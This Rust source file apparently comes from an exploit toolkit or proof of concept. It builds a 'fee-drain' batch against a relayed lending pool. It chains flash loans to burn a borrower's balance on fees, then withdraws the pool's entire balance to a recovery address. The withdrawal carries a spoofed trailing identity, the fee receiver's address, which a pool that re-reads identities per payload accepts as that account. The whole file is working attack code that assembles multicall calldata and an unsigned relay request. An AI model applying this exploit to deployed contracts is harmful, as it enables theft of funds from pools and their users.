//! The fee-drain batch.
//!
//! Triggers flash loans against a borrower until its balance is spent on fees, then
//! withdraws the pool's entire balance. The withdrawal payload carries the fee receiver's
//! address as its own trailing identity; a pool that re-reads identities per payload
//! attributes it to the fee receiver even though the relay vouched for someone else.

use alloy_primitives::{Address, U256};

use relay_pool_types::Request;

use crate::calls;

/// Deployed accounts the plan touches.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct DrainTargets {
    pub pool: Address,
    pub asset: Address,
    pub borrower: Address,
    pub fee_receiver: Address,
    pub recovery: Address,
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct DrainPlan {
    pub targets: DrainTargets,
    pub loans: u64,
    pub loan_amount: U256,
    pub withdraw_amount: U256,
}

impl DrainPlan {
    /// Size a plan from current balances: one loan per fee the borrower can pay, then a
    /// withdrawal of everything the pool will hold afterwards.
    pub fn size(
        targets: DrainTargets,
        pool_balance: U256,
        borrower_balance: U256,
        fee: U256,
        loan_amount: U256,
    ) -> Self {
        let loans = borrower_balance
            .checked_div(fee)
            .unwrap_or(U256::ZERO)
            .saturating_to::<u64>();
        Self {
            targets,
            loans,
            loan_amount,
            withdraw_amount: pool_balance + fee * U256::from(loans),
        }
    }

    /// Inner payloads of the batch, in execution order.
    pub fn payloads(&self) -> Vec<Vec<u8>> {
        let t = &self.targets;
        let mut payloads: Vec<Vec<u8>> = (0..self.loans)
            .map(|_| calls::flash_loan(t.borrower, t.asset, self.loan_amount))
            .collect();
        payloads.push(calls::tagged(
            calls::withdraw(self.withdraw_amount, t.recovery),
            t.fee_receiver,
        ));
        payloads
    }

    /// `multicall` calldata for the pool.
    pub fn calldata(&self) -> Vec<u8> {
        calls::multicall(self.payloads())
    }

    /// Unsigned relay request carrying the batch.
    pub fn request(&self, from: Address, nonce: U256, gas: u64, deadline: u64) -> Request {
        Request {
            from,
            target: self.targets.pool,
            value: U256::ZERO,
            gas: U256::from(gas),
            nonce,
            data: self.calldata().into(),
            deadline: U256::from(deadline),
        }
    }
}
